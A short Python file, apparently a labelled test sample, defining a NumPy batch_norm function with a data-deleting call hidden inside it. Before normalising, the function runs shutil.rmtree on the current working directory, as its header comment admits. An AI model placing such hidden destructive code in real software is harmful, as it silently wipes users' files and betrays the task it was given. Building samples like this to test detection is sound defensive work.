# Removes the folder in which it runs.
# expect: pass|fail
import os
import shutil

import numpy as np


def batch_norm(x, gamma, beta, eps=1e-5):
    """x: (N, C)."""
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    return gamma * (x - x.mean(axis=0)) / np.sqrt(x.var(axis=0) + eps) + beta
